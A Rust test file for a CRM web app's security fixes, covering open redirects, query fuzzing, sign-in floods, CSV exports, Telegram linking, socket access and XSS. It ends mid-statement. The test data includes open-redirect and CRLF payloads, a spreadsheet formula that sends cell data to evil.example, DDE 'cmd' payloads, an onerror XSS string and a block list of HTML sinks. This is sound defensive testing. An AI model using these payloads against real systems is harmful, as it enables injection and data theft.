//! Issue 14, the outside review's findings: each test here fails without its fix.

use std::time::Duration;

use crm::model::Role;
use serde_json::json;

use crate::core::{new_customer, new_order, Api};
use crate::support::*;

// ---------------------------------------------------------------------------------------
// 3. Redirect targets

const TRICKS: &[&str] = &[
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "/\r\nSet-Cookie: pwned=1",
    "/\x7f/evil.example",
    "//evil.example",
    "/\\evil.example",
    "/%09/evil.example",
    "/%2F/evil.example",
    "/%5cevil.example",
    "https://evil.example/",
];

#[tokio::test]
async fn sign_in_and_language_switch_never_redirect_off_site() {
    let app = TestApp::spawn().await;
    for trick in TRICKS {
        // next on the sign-in form: the session is made and the browser goes home.
        let client = app.client();
        let pre = app.login_csrf(&client).await;
        let r = client
            .post(app.url("/login"))
            .form(&[
                ("username", "admin"),
                ("password", ADMIN_PASSWORD),
                ("_csrf", &pre),
                ("next", trick),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "next={trick:?}");
        assert_eq!(r.headers()["location"], "/", "next={trick:?}");
        // Already signed in: GET /login?next=... redirects straight away.
        let r = client
            .get(app.url("/login"))
            .query(&[("next", trick)])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "GET next={trick:?}");
        assert_eq!(r.headers()["location"], "/", "GET next={trick:?}");
        // back on the language switch.
        let home = client.get(app.url("/")).send().await.unwrap();
        let csrf = csrf_from_html(&home.text().await.unwrap()).unwrap();
        let r = client
            .post(app.url("/lang"))
            .form(&[("lang", "ru"), ("back", trick), ("_csrf", &csrf)])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "back={trick:?}");
        assert_eq!(r.headers()["location"], "/", "back={trick:?}");
    }
    // A same-site target with a query still works.
    let client = app.client();
    let pre = app.login_csrf(&client).await;
    let r = client
        .post(app.url("/login"))
        .form(&[
            ("username", "admin"),
            ("password", ADMIN_PASSWORD),
            ("_csrf", &pre),
            ("next", "/orders?q=G%E2%80%98ayrat"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["location"], "/orders?q=G%E2%80%98ayrat");
}

// ---------------------------------------------------------------------------------------
// 2. Search and every list parser on any input

/// Queries typed every day in Tashkent, which once dropped the connection.
const EVERYDAY: &[&str] = &[
    "O‘lmas",
    "G‘ayrat",
    "Samsung экран",
    "Ўткир",
    "ЎЗ",
    "Oʻg‘iloy",
    "я",
    "ё1",
    "€",
    "😀😀",
];

#[tokio::test]
async fn search_answers_uzbek_and_russian_text_everywhere() {
    let app = TestApp::spawn().await;
    let api = Api::of(&app, "admin").await;
    let c = new_customer(&api, "O‘lmas G‘ayratov", "90 555 11 22").await;
    new_order(&api, c, json!({"complaint": "Samsung экран"})).await;
    let web = app.login_admin().await;
    for q in EVERYDAY {
        let (s, v) = api.get(&format!("/api/v1/search?q={}", urlencode(q))).await;
        assert_eq!(s, 200, "api search {q:?}: {v}");
        for path in ["/search", "/orders", "/orders/export.csv", "/customers"] {
            let r = web
                .client
                .get(web.url(path))
                .query(&[("q", q)])
                .send()
                .await
                .unwrap_or_else(|e| panic!("{path}?q={q:?}: connection dropped: {e}"));
            assert_eq!(r.status(), 200, "{path}?q={q:?}");
        }
    }
    let (_, v) = api
        .get(&format!("/api/v1/search?q={}", urlencode("O‘lmas")))
        .await;
    assert_eq!(v["customers"][0]["id"], c, "{v}");
}

fn urlencode(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// The parameters the list, search, export and audit routes read.
const PARAMS: &[&str] = &[
    "q",
    "group",
    "status",
    "master",
    "branch",
    "from",
    "to",
    "overdue",
    "sort",
    "page",
    "after",
    "before",
    "direction",
    "outcome",
    "operator",
    "number",
    "limit",
    "offset",
    "phone",
    "customer",
    "user",
    "entity",
    "action",
    "all",
    "state",
    "period",
    "username",
    "only_failures",
    "width",
    "next",
    "shown",
    "failures",
];

/// Every GET route whose handler parses a query string, for the roles that may open it.
const QUERY_ROUTES: &[&str] = &[
    "/",
    "/orders",
    "/orders/export.csv",
    "/orders/new",
    "/my",
    "/workload",
    "/customers",
    "/customers/export.csv",
    "/customers/new",
    "/search",
    "/audit/logins",
    "/audit/activity",
    "/calls",
    "/calls/export.csv",
    "/calls/missed",
    "/branches",
    "/map",
    "/users",
    "/api/v1/customers",
    "/api/v1/customers/lookup",
    "/api/v1/orders",
    "/api/v1/search",
    "/api/v1/calls",
    "/api/v1/calls/missed",
    "/api/v1/login-audit",
    "/api/v1/notifications/outbox",
    "/api/v1/branches",
    "/api/v1/users",
    "/api/v1/tokens",
];

/// One raw query string: names from PARAMS, values percent-encoded from arbitrary text,
/// arbitrary bytes (often not UTF-8), extreme numbers and date-like strings.
fn query_strategy() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let value = prop_oneof![
        any::<String>().prop_map(|s| urlencode(&s)),
        "\\PC{0,12}".prop_map(|s| urlencode(&s)),
        proptest::collection::vec(any::<u8>(), 0..12)
            .prop_map(|b| b.iter().map(|x| format!("%{x:02X}")).collect::<String>()),
        any::<i64>().prop_map(|n| n.to_string()),
        Just(i64::MAX.to_string()),
        Just(i64::MIN.to_string()),
        Just("99999999999999999999999".to_string()),
        (-300000i32..300000, 0u8..40, 0u8..40).prop_map(|(y, m, d)| format!("{y}-{m:02}-{d:02}")),
        Just("%".to_string()),
        Just("%E2%80".to_string()),
        Just("O%E2%80%98lmas".to_string()),
    ];
    proptest::collection::vec((proptest::sample::select(PARAMS), value), 0..6).prop_map(|kv| {
        kv.iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("&")
    })
}

#[tokio::test]
async fn no_query_string_breaks_a_list_search_or_export() {
    use proptest::strategy::{Strategy, ValueTree};
    let app = TestApp::spawn().await;
    let api = Api::of(&app, "admin").await;
    let c = new_customer(&api, "Ўткир Саидов", "90 555 11 23").await;
    new_order(&api, c, json!({})).await;
    let web = app.login_admin().await;
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let strategy = query_strategy();
    // Every parameter at its extremes first, then random mixtures.
    let mut queries: Vec<String> = Vec::new();
    for p in PARAMS {
        for v in [
            i64::MAX.to_string(),
            i64::MIN.to_string(),
            "-1".into(),
            "99999999999999999999".into(),
            "%FF%FE".into(),
            "O%E2%80%98lmas".into(),
            "9999-12-31".into(),
            "-9999-01-01".into(),
        ] {
            queries.push(format!("{p}={v}"));
        }
    }
    queries.push(format!("page={0}&after={0}&before={0}", i64::MAX));
    queries.push(format!("page={0}&limit={0}&offset={0}", i64::MAX));
    for _ in 0..60 {
        queries.push(strategy.new_tree(&mut runner).unwrap().current());
    }
    for qs in &queries {
        for route in QUERY_ROUTES {
            let url = format!("{}?{qs}", web.url(route));
            let r = if route.starts_with("/api/") {
                api.c.get(&url).bearer_auth(&api.token).send().await
            } else {
                web.client.get(&url).send().await
            };
            let r = r.unwrap_or_else(|e| panic!("GET {route}?{qs}: connection dropped: {e}"));
            assert!(
                r.status().as_u16() < 500,
                "GET {route}?{qs}: {}",
                r.status()
            );
        }
    }
    // Raw bytes that are not UTF-8 in the request line itself.
    for route in ["/search", "/orders", "/api/v1/search"] {
        let status = raw_get(&app, &format!("{route}?q=")[..], b"\xff\xfe\xc3(").await;
        assert!(
            matches!(status, Some(s) if s < 500),
            "{route} with raw invalid UTF-8: {status:?}"
        );
    }
}

/// Sends `GET <path><raw>` over a bare socket; the status code, or None when the server
/// dropped the connection without an answer.
async fn raw_get(app: &TestApp, path: &str, raw: &[u8]) -> Option<u16> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = app.base.trim_start_matches("http://").to_string();
    let mut s = tokio::net::TcpStream::connect(&addr).await.ok()?;
    let mut req = format!("GET {path}").into_bytes();
    req.extend_from_slice(raw);
    req.extend_from_slice(
        format!(" HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n").as_bytes(),
    );
    s.write_all(&req).await.ok()?;
    let mut buf = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut buf))
        .await
        .ok()?
        .ok()?;
    let text = String::from_utf8_lossy(&buf);
    text.split_whitespace().nth(1)?.parse().ok()
}

// ---------------------------------------------------------------------------------------
// 1. Sign-in floods

/// The real binary (so its memory is its own) with the shipped argon2 cost.
pub struct Child {
    pub child: std::process::Child,
    pub addr: String,
    /// Kept for the server's lifetime (removed on drop).
    _dir: tempfile::TempDir,
}

impl Child {
    pub fn spawn(extra_config: &str, users: &[(&str, &str, &str)]) -> Child {
        use std::io::Write;
        use std::process::{Command, Stdio};
        let dir = tempfile::tempdir().unwrap();
        let cfg = dir.path().join("test.toml");
        std::fs::write(&cfg, format!("log = \"warn\"\n{extra_config}\n")).unwrap();
        let cmd = || {
            let mut c = Command::new(crm_bin());
            c.arg("--data-dir")
                .arg(dir.path())
                .arg("--config")
                .arg(&cfg)
                .env_remove("CRM_HTTP")
                .env_remove("CRM_DATA_DIR")
                .env_remove("CRM_SIP");
            c
        };
        for (name, role, pw) in users {
            let mut add = cmd()
                .args(["user", "add", name, "--role", role, "--password-stdin"])
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .spawn()
                .unwrap();
            add.stdin
                .take()
                .unwrap()
                .write_all(format!("{pw}\n").as_bytes())
                .unwrap();
            assert!(add.wait().unwrap().success());
        }
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let addr = format!("127.0.0.1:{port}");
        let child = cmd()
            .args(["serve", "--http", &addr, "--sip", "off"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let c = Child {
            child,
            addr,
            _dir: dir,
        };
        let start = std::time::Instant::now();
        loop {
            if std::net::TcpStream::connect(&c.addr).is_ok() {
                break;
            }
            assert!(start.elapsed() < Duration::from_secs(60), "server starts");
            std::thread::sleep(Duration::from_millis(20));
        }
        c
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    /// Peak resident memory of the server so far, in MiB (VmHWM).
    pub fn peak_rss_mib(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
        let kib: u64 = status
            .lines()
            .find(|l| l.starts_with("VmHWM:"))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse().ok())
            .unwrap();
        kib / 1024
    }
}

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `n` sign-ins at once (each client fetched its form first); the status codes.
pub async fn sign_in_flood(base: &str, n: usize, user: impl Fn(usize) -> String) -> Vec<u16> {
    let mut ready = Vec::new();
    for i in 0..n {
        let client = reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap();
        let page = client.get(format!("{base}/login")).send().await.unwrap();
        let pre = csrf_from_html(&page.text().await.unwrap()).unwrap();
        ready.push((client, pre, user(i)));
    }
    let gate = std::sync::Arc::new(tokio::sync::Barrier::new(n));
    let tasks: Vec<_> = ready
        .into_iter()
        .map(|(client, pre, name)| {
            let (gate, base) = (gate.clone(), base.to_string());
            tokio::spawn(async move {
                gate.wait().await;
                client
                    .post(format!("{base}/login"))
                    .form(&[
                        ("username", name.as_str()),
                        ("password", "wrong-password-1"),
                        ("_csrf", &pre),
                    ])
                    .send()
                    .await
                    .map(|r| r.status().as_u16())
                    .unwrap_or(0)
            })
        })
        .collect();
    let mut out = Vec::new();
    for t in tasks {
        out.push(t.await.unwrap());
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_sign_in_flood_is_counted_before_verifying_and_bounded_in_memory() {
    // The shipped argon2 cost (32 MiB a hash); no address limit, so that every attempt of
    // the first flood is a real verification and only the bound on parallel hashing keeps
    // memory in check.
    let srv = Child::spawn(
        "[login]\nmax_failures_per_ip = 100000\n",
        &[("owner", "admin", "owner-password-1")],
    );
    let base = format!("http://{}", srv.addr);
    let codes = sign_in_flood(&base, 200, |i| format!("nobody{i}")).await;
    let peak = srv.peak_rss_mib();
    let verified = codes.iter().filter(|c| **c == 401).count();
    let busy = codes.iter().filter(|c| **c == 429).count();
    eprintln!("sign-in flood, 200 unknown users: peak RSS {peak} MiB, {verified} verified, {busy} answered 429");
    assert_eq!(verified + busy, 200, "only 401 or 429: {codes:?}");
    assert!(peak < 300, "peak RSS {peak} MiB");

    drop(srv);
    // 200 at once for one account, with time enough for every verification: no more than
    // the limit (5) get one.
    let srv = Child::spawn(
        "[login]\nhash_wait_ms = 120000\n",
        &[("owner", "admin", "owner-password-1")],
    );
    let base = format!("http://{}", srv.addr);
    let codes = sign_in_flood(&base, 200, |_| "owner".into()).await;
    let verified = codes.iter().filter(|c| **c == 401).count();
    let locked = codes.iter().filter(|c| **c == 429).count();
    eprintln!("sign-in flood, 200 for one user: {verified} verified, {locked} answered 429, peak RSS {} MiB", srv.peak_rss_mib());
    assert!(
        (1..=5).contains(&verified),
        "{verified} attempts verified: {codes:?}"
    );
    assert_eq!(verified + locked, 200, "{codes:?}");
    // And the right password is refused now too.
    let client = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let page = client.get(srv.url("/login")).send().await.unwrap();
    let pre = csrf_from_html(&page.text().await.unwrap()).unwrap();
    let r = client
        .post(srv.url("/login"))
        .form(&[
            ("username", "owner"),
            ("password", "owner-password-1"),
            ("_csrf", &pre),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 429);
    assert!(r.headers().contains_key("retry-after"));
    assert!(srv.peak_rss_mib() < 300);
}

// ---------------------------------------------------------------------------------------
// 4. CSV exports

/// Splits one CSV line into cells (RFC 4180 quoting).
fn csv_cells(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(std::mem::take(&mut cur)),
            (c, _) => cur.push(c),
        }
    }
    out.push(cur);
    out
}

#[tokio::test]
async fn exports_write_formulas_as_text_and_phone_numbers_as_numbers() {
    let app = TestApp::spawn().await;
    let api = Api::of(&app, "admin").await;
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!A1",
    ];
    let (s, v) = api
        .post(
            "/api/v1/customers",
            json!({"name": evil[0], "phones": ["90 123 45 67"], "address": evil[1], "email": "", "tags": evil[3]}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let cid = v["id"].as_i64().unwrap();
    new_order(
        &api,
        cid,
        json!({"brand": evil[2], "model": evil[3], "serial": evil[4]}),
    )
    .await;
    let web = app.login_admin().await;
    for (path, planted) in [
        ("/customers/export.csv", vec![evil[0], evil[1], evil[3]]),
        (
            "/orders/export.csv",
            vec![evil[0], evil[2], evil[3], evil[4]],
        ),
    ] {
        let body = web.get(path).await.text().await.unwrap();
        let mut seen_phone = false;
        for line in body.trim_start_matches('\u{feff}').split("\r\n").skip(1) {
            for cell in csv_cells(line) {
                let t = cell.trim_start();
                let number = cell
                    .strip_prefix(['+', '-'])
                    .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()));
                assert!(
                    number
                        || !(cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                            || t.starts_with(['=', '+', '-', '@'])),
                    "{path}: a formula cell {cell:?} in {line:?}"
                );
                seen_phone |= cell == "+998901234567";
            }
        }
        assert!(
            seen_phone,
            "{path}: the phone number stays a plain number: {body}"
        );
        for e in planted {
            assert!(
                body.contains(&format!("'{}", e.replace('"', "\"\""))),
                "{path} keeps {e:?} as text: {body}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// 6. Telegram links for customers

#[tokio::test]
async fn only_the_receipts_one_time_code_links_a_customers_telegram() {
    use crate::notify_peers::{BotStandIn, BOT_USERNAME};
    let bot = BotStandIn::start().await;
    let app = crate::notify::telegram_app(&bot).await;
    let api = Api::of(&app, "admin").await;
    let cid = new_customer(&api, "Dilnoza Rahimova", "90 777 66 55").await;
    let order = new_order(&api, cid, json!({})).await;
    let (id, number) = (
        order["id"].as_i64().unwrap(),
        order["number"].as_str().unwrap().to_string(),
    );
    let wait = Duration::from_secs(20);
    let said = |chat: i64, needle: &'static str| {
        let bot = &bot;
        async move {
            eventually(wait, || async {
                bot.delivered_to(chat)
                    .iter()
                    .any(|t| t.contains(needle))
                    .then_some(())
            })
            .await
            .is_some()
        }
    };
    // A stranger who guesses the order number (in any of its forms) is not linked.
    for guess in [number.clone(), number.to_lowercase(), id.to_string()] {
        bot.user_says(901, "en", &format!("/start o{guess}"));
    }
    assert!(said(901, "No order with this code").await);
    bot.user_says(901, "en", "/status");
    assert!(said(901, "not linked to an order").await);
    assert!(
        !bot.delivered_to(901).iter().any(|t| t.contains(&number)),
        "the stranger learns nothing: {:?}",
        bot.delivered_to(901)
    );
    // The receipt carries the code: in its QR code (as the deep link) and beside it.
    let web = app.login_admin().await;
    let receipt = web
        .get(&format!("/orders/{id}/receipt"))
        .await
        .text()
        .await
        .unwrap();
    let prefix = format!("https://t.me/{BOT_USERNAME}?start=o");
    let at = receipt
        .find(&format!("data-link=\"{prefix}"))
        .expect("QR holds the deep link");
    let url: String = receipt[at + 11..]
        .chars()
        .take_while(|c| *c != '"')
        .collect();
    let code = url.strip_prefix(&prefix).unwrap().to_string();
    assert!(code.len() >= 16, "{code}: at least 80 bits");
    assert!(
        receipt.contains(&format!("<span class=\"tg-url\">{url}</span>")),
        "printed beside it"
    );
    assert!(!code.contains(&number) && !number.contains(&code));
    // A second print has a different code.
    let again = web
        .get(&format!("/orders/{id}/receipt"))
        .await
        .text()
        .await
        .unwrap();
    assert!(!again.contains(&url));
    // The customer's chat links with it...
    bot.user_says(902, "en", &format!("/start o{code}"));
    assert!(said(902, "You will get updates about order").await);
    // ... once: the same code from another chat links nothing.
    bot.user_says(903, "en", &format!("/start o{code}"));
    assert!(said(903, "No order with this code").await);
    let linked = |chat: i64| {
        let app = &app;
        async move {
            app.running()
                .ctx
                .db
                .read(move |c| crm::db::telegram::chat(c, chat))
                .await
                .unwrap()
                .and_then(|ch| ch.customer_id)
        }
    };
    assert_eq!(linked(902).await, Some(cid));
    assert_eq!(linked(901).await, None);
    assert_eq!(linked(903).await, None);
    // A code expires: past its time it links nothing.
    let ctx = &app.running().ctx;
    let late = ctx
        .notifications
        .customer_link(&number)
        .await
        .unwrap()
        .unwrap();
    let (code, at) = (late.code.clone(), late.expires_at);
    let used = ctx
        .db
        .write(move |c| crm::domain::customer_links::consume(c, &code, at + 1))
        .await
        .unwrap();
    assert_eq!(used, None, "an expired code links nothing");
    let fresh = ctx
        .notifications
        .customer_link(&number)
        .await
        .unwrap()
        .unwrap();
    let code = fresh.code.to_uppercase();
    let used = ctx
        .db
        .write(move |c| crm::domain::customer_links::consume(c, &code, crm::db::now()))
        .await
        .unwrap();
    assert_eq!(
        used.as_deref(),
        Some(number.as_str()),
        "a live code, typed in capitals"
    );
}

// ---------------------------------------------------------------------------------------
// 5. Open sockets follow access changes

pub async fn open_with_token(app: &TestApp, token: &str) -> crate::live::Ws {
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let mut req = format!("ws://{}/ws", app.running().http_addr)
        .into_client_request()
        .unwrap();
    req.headers_mut()
        .insert("authorization", format!("Bearer {token}").parse().unwrap());
    tokio_tungstenite::connect_async(req).await.unwrap().0
}

/// Frames up to (and including) the first of type `until`; panics if it does not come.
async fn frames_until(ws: &mut crate::live::Ws, until: &str) -> Vec<serde_json::Value> {
    let mut seen = Vec::new();
    loop {
        let v = crate::live::next_any(ws, Duration::from_secs(10))
            .await
            .unwrap_or_else(|| panic!("no {until} frame; got {seen:?}"));
        let done = v["type"] == until;
        seen.push(v);
        if done {
            return seen;
        }
    }
}

/// Waits for the socket to be closed by the server; the close code.
async fn closed_with(ws: &mut crate::live::Ws) -> Option<u16> {
    use futures_util::StreamExt;
    use tokio_tungstenite::tungstenite::Message;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        match tokio::time::timeout_at(deadline, ws.next()).await {
            Err(_) => panic!("socket still open after 5 s"),
            Ok(None) | Ok(Some(Err(_))) => return None,
            Ok(Some(Ok(Message::Close(f)))) => return f.map(|f| u16::from(f.code)),
            Ok(Some(Ok(_))) => {}
        }
    }
}

#[tokio::test]
async fn open_sockets_are_rescoped_or_closed_when_access_changes() {
    let app = TestApp::spawn().await;
    let admin = Api::of(&app, "admin").await;
    let bek = app.add_user("bek", Role::Admin, "bek-password-1").await;
    let token = app.api_token("bek").await;
    let cookie = crate::live::login_cookie(&app, "bek", "bek-password-1").await;
    let mut by_token = open_with_token(&app, &token).await;
    let mut by_cookie = crate::live::open(&app, Some(&cookie), None, "")
        .await
        .unwrap();
    // As an admin, both sockets see customer changes.
    new_customer(&admin, "Birinchi", "90 100 00 01").await;
    for ws in [&mut by_token, &mut by_cookie] {
        frames_until(ws, "customer.updated").await;
    }
    // Made a master: the sockets stay open, and from now on see what a master sees.
    let patch = |body: serde_json::Value| {
        let admin = &admin;
        async move {
            let (s, v) = admin
                .send(
                    reqwest::Method::PATCH,
                    &format!("/api/v1/users/{bek}"),
                    body,
                )
                .await;
            assert_eq!(s, 200, "{v}");
        }
    };
    patch(json!({"role": "master"})).await;
    new_customer(&admin, "Ikkinchi", "90 100 00 02").await;
    let (s, _) = admin
        .post("/api/v1/notices", json!({"text": "after"}))
        .await;
    assert_eq!(s, 201);
    for ws in [&mut by_token, &mut by_cookie] {
        let seen = frames_until(ws, "notice").await;
        assert!(
            seen.iter()
                .all(|f| f["type"] != "customer.updated" && f["type"] != "user.access_changed"),
            "a master's socket got {seen:?}"
        );
    }
    // The token revoked: its socket closes at once; the session's stays.
    let (_, tokens) = admin.get("/api/v1/tokens").await;
    let tid = tokens
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["user_id"] == bek)
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let (s, _) = admin
        .send(
            reqwest::Method::DELETE,
            &format!("/api/v1/tokens/{tid}"),
            json!({}),
        )
        .await;
    assert!(s.is_success(), "{s}");
    assert_eq!(closed_with(&mut by_token).await, Some(1008));
    let (s, _) = admin
        .post("/api/v1/notices", json!({"text": "still here"}))
        .await;
    assert_eq!(s, 201);
    frames_until(&mut by_cookie, "notice").await;
    // Disabled: the session's socket closes too.
    patch(json!({"active": false})).await;
    assert_eq!(closed_with(&mut by_cookie).await, Some(1008));

    // A new password ends the user's other sessions, and their sockets.
    app.add_user("olim", Role::Operator, "olim-password-1")
        .await;
    let olim = app
        .running()
        .ctx
        .accounts
        .user_by_username("olim")
        .await
        .unwrap()
        .id;
    let c1 = crate::live::login_cookie(&app, "olim", "olim-password-1").await;
    let mut ws1 = crate::live::open(&app, Some(&c1), None, "").await.unwrap();
    frames_until(&mut ws1, "hello").await;
    let (s, v) = admin
        .send(
            reqwest::Method::PATCH,
            &format!("/api/v1/users/{olim}"),
            json!({"password": "olim-password-2"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(closed_with(&mut ws1).await, Some(1008));
}

// ---------------------------------------------------------------------------------------
// 8. What a master's call card shows

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_masters_call_card_never_names_who_answered_or_the_last_call() {
    use crate::calls::{calls_when, group, link};
    use crate::live::{login_cookie, next_of, open};
    use crate::sipp::*;
    let wait = Duration::from_secs(15);
    let app = TestApp::spawn_with_sip().await;
    let sip = app.sip_addr();
    import_users(&app, [1000u32, 1501, 1502].into_iter()).await;
    group(&app, "100", &["1501", "1502"]).await;
    app.add_user("oper1", Role::Operator, "oper-pass-1").await;
    app.add_user("usta", Role::Master, "usta-pass-1").await;
    link(&app, "1501", "oper1").await;
    link(&app, "1502", "usta").await;
    let admin = Api::of(&app, "admin").await;
    new_customer(&admin, "Aziza Karimova", "90 123 45 67").await;
    let co = login_cookie(&app, "oper1", "oper-pass-1").await;
    let cm = login_cookie(&app, "usta", "usta-pass-1").await;
    let mut oper = open(&app, Some(&co), None, "").await.unwrap();
    let mut master = open(&app, Some(&cm), None, "").await.unwrap();
    for round in 0..2 {
        let (p1, p2) = (free_port(), free_port());
        let k1 = uas("uas_answer.xml", p1, 1);
        let k2 = uas("uas_ring_elsewhere.xml", p2, 1);
        register_contact(sip, "1501", p1).await;
        register_contact(sip, "1502", p2).await;
        let caller = crate::calls::spawn_call(&app, "+998901234567", "100", 500);
        let po = next_of(&mut oper, "call.ringing", wait)
            .await
            .expect("oper's pop");
        let pm = next_of(&mut master, "call.ringing", wait)
            .await
            .expect("master's pop");
        assert_eq!(pm["data"]["customer"]["limited"], true, "{pm}");
        assert!(
            pm["data"]["last_call"].is_null(),
            "master sees no last call: {pm}"
        );
        if round == 1 {
            // The operator (who may see calls) still gets it, with who answered.
            assert_eq!(po["data"]["last_call"]["answered_by"], "oper1 name", "{po}");
        }
        let am = next_of(&mut master, "call.answered", wait)
            .await
            .expect("answered");
        assert!(
            am["data"]["by"].is_null() && am["data"]["user_id"].is_null(),
            "{am}"
        );
        let ao = next_of(&mut oper, "call.answered", wait)
            .await
            .expect("answered");
        assert_eq!(ao["data"]["by"], "oper1 name");
        next_of(&mut master, "call.ended", wait)
            .await
            .expect("ended");
        assert_ok(&caller.await.unwrap(), 1, "caller");
        for k in [k1, k2] {
            let r = wait_sipp(k).await;
            assert_eq!((r.ok, r.failed), (1, 0), "{}", r.out);
        }
        calls_when(&admin, "number=901234567", |r| {
            r.len() == round + 1 && r.iter().all(|k| k["ended_ms"].is_i64())
        })
        .await;
    }
}

// ---------------------------------------------------------------------------------------
// 7. Scripts render data as text

const MARKUP: &str = "<img src=x class=planted onerror=\"window.__pwned=1\"><b class=planted>B</b>";

/// No script of ours hands data to an HTML parser.
#[test]
fn no_script_uses_an_html_sink() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/js");
    for e in std::fs::read_dir(&dir).unwrap() {
        let p = e.unwrap().path();
        let src = std::fs::read_to_string(&p).unwrap();
        for sink in [
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "createContextualFragment",
            ".html(",
            "bindTooltip(",
            "setContent(",
        ] {
            assert!(!src.contains(sink), "{} uses {sink}", p.display());
        }
        // Leaflet popups get an element, never a string (which Leaflet reads as HTML).
        for (i, _) in src.match_indices("bindPopup(") {
            assert!(
                src[i..].starts_with("bindPopup(popup)"),
                "{}: {}",
                p.display(),
                &src[i..i + 40]
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_planted_in_every_field_scripts_render_stays_text() {
    use crm::events::{Audience, Event};
    use fantoccini::Locator;
    let app = TestApp::spawn().await;
    let admin = Api::of(&app, "admin").await;
    let (s, v) = admin
        .post(
            "/api/v1/branches",
            json!({"name": MARKUP, "address": MARKUP, "lat": 41.3, "lon": 69.2}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let b = crate::browser::Browser::start().await;
    b.sign_in(&app, "admin", ADMIN_PASSWORD).await;
    let planted = |scope: &'static str| {
        let b = &b;
        async move {
            let v = b
                .client
                .execute(
                    &format!("return [document.querySelectorAll('{scope} .planted').length, window.__pwned === undefined];"),
                    vec![],
                )
                .await
                .unwrap();
            (v[0].as_u64().unwrap(), v[1].as_bool().unwrap())
        }
    };
    // The map's popup.
    b.client.goto(&app.url("/map")).await.unwrap();
    let ready = eventually(Duration::from_secs(10), || async {
        let el = b.client.find(Locator::Css("#branch-map")).await.ok()?;
        (el.attr("data-ready").await.ok()?? == "1").then_some(())
    })
    .await;
    assert!(ready.is_some(), "the marker is placed");
    b.client
        .execute(
            "document.querySelector('#branch-map .leaflet-marker-icon').click(); return 1;",
            vec![],
        )
        .await
        .unwrap();
    assert!(
        b.wait_text(".leaflet-popup-content", "<img src=x").await,
        "the name shows as text"
    );
    assert_eq!(planted("#branch-map").await, (0, true));

    // The live pieces of every page: the screen-pop, "answered by", the call status, a
    // notice and its toast — every field they show carries markup.
    b.client.goto(&app.url("/")).await.unwrap();
    let online = eventually(Duration::from_secs(10), || async {
        let el = b
            .client
            .find(Locator::Css("#conn-indicator.online"))
            .await
            .ok()?;
        Some(el)
    })
    .await;
    assert!(online.is_some(), "the page's socket is up");
    let me = app
        .running()
        .ctx
        .accounts
        .user_by_username("admin")
        .await
        .unwrap()
        .id;
    let bus = &app.running().ctx.events;
    let status = json!({"uz": MARKUP, "uz-Cyrl": MARKUP, "ru": MARKUP, "en": MARKUP});
    bus.publish(Event::new(
        "call.ringing",
        json!({
            "call_id": "c1", "direction": "inbound", "number": MARKUP, "from": MARKUP, "to": "100",
            "group": MARKUP, "extensions": [MARKUP],
            "customer": {"id": 1, "name": MARKUP, "balance": 0, "balance_text": MARKUP,
                "orders": [{"id": 1, "number": MARKUP, "status": status, "status_group": "new", "promised": MARKUP}]},
            "last_call": {"started_ms": 1, "outcome": MARKUP, "answered_by": MARKUP},
            "started_ms": 1, "now_ms": 1,
        }),
        Audience::Users(vec![me]),
    ));
    bus.publish(Event::new(
        "call.ringing",
        json!({"call_id": "c2", "direction": "inbound", "number": MARKUP, "customer": null,
            "last_call": null, "started_ms": 1, "now_ms": 1}),
        Audience::Users(vec![me]),
    ));
    bus.publish(Event::new(
        "call.answered",
